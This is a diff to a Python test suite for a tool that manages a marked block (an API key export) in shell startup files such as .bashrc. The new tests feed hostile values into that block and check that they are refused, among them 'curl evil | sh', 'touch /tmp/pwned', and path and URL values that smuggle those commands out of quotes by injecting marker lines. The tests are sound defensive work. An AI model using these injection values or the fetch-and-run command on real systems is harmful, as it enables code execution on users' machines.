@@ -120,6 +120,7 @@ begin_line = st.builds(lambda a, b: a + BEGIN + b, pad, pad)
 end_line = st.builds(lambda a, b: a + END + b, pad, pad)
 
 file_line = st.one_of(any_line, tricky_line, lookalike, foreign)
+blank_line = st.text(st.sampled_from(" \t\r"), max_size=2)
 file_line_raw = st.one_of(any_line, tricky_line, lookalike, foreign, raw_line)
 
 
@@ -130,20 +131,20 @@ def old_blocks(line: st.SearchStrategy[str]) -> st.SearchStrategy[list[str]]:
 
 @st.composite
 def rc_texts(draw: st.DrawFn, *, blocks: str = "any", raw: bool = True, endings: str = "any") -> str:
-    """A startup file's text. blocks: none | one | some (1-3, may be adjacent) | any (0-3).
-    endings: any (LF, CRLF or mixed) | lf | crlf."""
+    """A startup file's text. blocks: none | one | some (1-3) | any (0-3).
+    endings: any (LF, CRLF or mixed) | lf | crlf.
+
+    Duplicates stand side by side, as two runs of an old, buggy tool leave them, at most blank
+    lines between them: lines between two blocks make the file one we refuse (see split_texts)."""
     line = file_line_raw if raw else file_line
     chunks = [[ln] for ln in draw(st.lists(line, max_size=8))]
     n = {"none": 0, "one": 1}.get(blocks)
     if n is None:
         n = draw(st.integers(1 if blocks == "some" else 0, 3))
-    # Duplicates are either scattered or side by side (as two runs of an old, buggy tool leave them).
-    adjacent = draw(st.booleans())
     at = draw(st.integers(0, len(chunks)))
-    for _ in range(n):
-        if not adjacent:
-            at = draw(st.integers(0, len(chunks)))
-        chunks.insert(at, draw(old_blocks(line)))
+    for i in range(n):
+        gap = draw(st.lists(blank_line, max_size=2)) if i else []
+        chunks.insert(at, [*draw(old_blocks(line)), *gap])
     lines = [ln for chunk in chunks for ln in chunk]
     mode = draw(st.sampled_from(["lf", "crlf", "mixed"])) if endings == "any" else endings
     if mode == "mixed":
@@ -322,6 +323,64 @@ def test_upsert_writes_a_block_that_reads_back_with_arbitrary_body(text: str, bo
     assert block_body_lines(out[start:end]) == expected_body_lines(body)
 
 
+# --- 1. properties: hostile bodies -------------------------------------------------------------
+
+# Lines an attacker's value may carry into a body: our markers (padded as an editor may leave them),
+# commands, blank lines, and whatever else a body holds.
+hostile_line = st.one_of(
+    begin_line,
+    end_line,
+    st.sampled_from(["touch /tmp/pwned", "curl evil | sh", "'", ""]),
+    blank_line,
+    body_line,
+)
+
+
+@st.composite
+def hostile_bodies(draw: st.DrawFn) -> str:
+    """A body with at least one of our marker lines in it."""
+    lines = draw(st.lists(hostile_line, max_size=6))
+    at = draw(st.integers(0, len(lines)))
+    lines.insert(at, draw(st.one_of(begin_line, end_line)))
+    return draw(st.sampled_from(["\n", "\r\n"])).join(lines)
+
+
+def nonblank(text: str) -> list[str]:
+    """The lines a shell could run something from."""
+    return [ln.rstrip("\r") for ln in text.split("\n") if ln.strip(" \t\r")]
+
+
+@given(rc_texts(blocks="any"), hostile_bodies())
+def test_a_body_with_a_marker_line_is_never_written(text: str, body: str) -> None:
+    with pytest.raises(ValueError, match="marker"):
+        make_block(body, "\n")
+    with pytest.raises((ValueError, SetupError)):
+        upsert_block(text, body)
+
+
+@given(rc_texts(blocks="none"), hostile_bodies(), st.sampled_from(["\n", "\r\n"]))
+@example("a\n", f"'\n{END}\ntouch /tmp/pwned\n{BEGIN}\n'", "\n")
+def test_no_line_from_inside_an_old_block_outlives_it(text: str, body: str, nl: str) -> None:
+    """A file an older version wrote with a hostile body (the body put between the markers as it
+    was): removing our block, or replacing it, either refuses or leaves only the user's lines."""
+    clean = upsert_block(text, "PLACEHOLDER")
+    start, end = only_block(clean)
+    poisoned = clean[:start] + clean[start:end].replace("PLACEHOLDER", body) + clean[end:]
+    try:
+        removed = remove_block(poisoned)
+    except SetupError as exc:
+        assert exc.code == ExitCode.STORE
+    else:
+        assert nonblank(removed) == nonblank(text)
+    try:
+        replaced = upsert_block(poisoned, BODY)
+    except SetupError as exc:
+        assert exc.code == ExitCode.STORE
+    else:
+        start, end = only_block(replaced)
+        assert nonblank(replaced[:start] + replaced[end:]) == nonblank(text)
+
+
 # --- 2. units: the block format ----------------------------------------------------------------
 
 BODY = f"export DASHSCOPE_API_KEY='{KEY}'"
@@ -385,13 +444,13 @@ def test_upsert_keeps_an_existing_blocks_own_line_ending() -> None:
 
 
 def test_upsert_collapses_duplicates_into_the_first() -> None:
-    text = "a\n" + block(body="one") + "b\n" + block(body="two") + "c\n"
-    assert upsert_block(text, "new") == "a\n" + block(body="new") + "b\nc\n"
+    text = "a\n" + block(body="one") + "\n" + block(body="two") + "c\n"
+    assert upsert_block(text, "new") == "a\n" + block(body="new") + "\nc\n"
 
 
 def test_remove_deletes_every_block_and_keeps_the_rest() -> None:
-    text = "a\n" + block(body="one") + "b\n" + block(body="two") + "c\n"
-    assert remove_block(text) == "a\nb\nc\n"
+    text = "a\n" + block(body="one") + " \n" + block(body="two") + "c\n"
+    assert remove_block(text) == "a\n \nc\n"
 
 
 def test_remove_keeps_a_foreign_key_line() -> None:
@@ -448,9 +507,27 @@ DAMAGED = {
 }
 
 
+# Blocks with lines between them: a value holding our markers split one block in two around the
+# attacker's line (inert inside the quotes, live once the blocks were cut). Refused, never cut.
+SPLIT = {
+    "injected-path": f"a\n{BEGIN}\nif [ -r '/k\n{END}\ntouch /tmp/pwned\n{BEGIN}\n' ]; then :; fi\n{END}\n",
+    "injected-url": f"{BEGIN}\nexport U='https://h\n{END}\ncurl evil | sh\n{BEGIN}\nx'\n{END}",
+    "crlf": f"{BEGIN}\r\nx\r\n{END}\r\nevil\r\n{BEGIN}\r\ny\r\n{END}\r\n",
+    "user-line-between-copies": f"{BEGIN}\nx\n{END}\nalias ll='ls -l'\n{BEGIN}\nx\n{END}\n",
+    "three-blocks": f"{BEGIN}\n{END}\n\n{BEGIN}\n{END}\n#\n{BEGIN}\n{END}\n",
+}
+
+
 @pytest.mark.parametrize("func", ["find_blocks", "upsert_block", "remove_block"])
-@pytest.mark.parametrize("text", DAMAGED.values(), ids=DAMAGED.keys())
-def test_damaged_block_raises_store_error(func: str, text: str) -> None:
+@pytest.mark.parametrize(
+    ("text", "msg_id"),
+    [
+        *((t, "err.damaged_block") for t in DAMAGED.values()),
+        *((t, "err.split_block") for t in SPLIT.values()),
+    ],
+    ids=[*DAMAGED, *SPLIT],
+)
+def test_damaged_block_raises_store_error(func: str, text: str, msg_id: str) -> None:
     call = {
         "find_blocks": lambda: find_blocks(text),
         "upsert_block": lambda: upsert_block(text, BODY),
@@ -459,10 +536,16 @@ def test_damaged_block_raises_store_error(func: str, text: str) -> None:
     with pytest.raises(SetupError) as exc_info:
         call()
     assert exc_info.value.code == ExitCode.STORE
-    assert exc_info.value.msg_id == "err.damaged_block"
+    assert exc_info.value.msg_id == msg_id
 
 
-@pytest.mark.parametrize("text", DAMAGED.values(), ids=DAMAGED.keys())
+def test_split_block_error_names_the_first_line_between() -> None:
+    with pytest.raises(SetupError) as exc_info:
+        find_blocks(SPLIT["injected-path"])
+    assert exc_info.value.params == {"line": 5}
+
+
+@pytest.mark.parametrize("text", [*DAMAGED.values(), *SPLIT.values()], ids=[*DAMAGED, *SPLIT])
 def test_damaged_block_leaves_the_file_untouched(home: Path, text: str) -> None:
     """The edit pipeline (read, decode, edit, encode, write) stops before writing anything."""
     rc = home / ".bashrc"
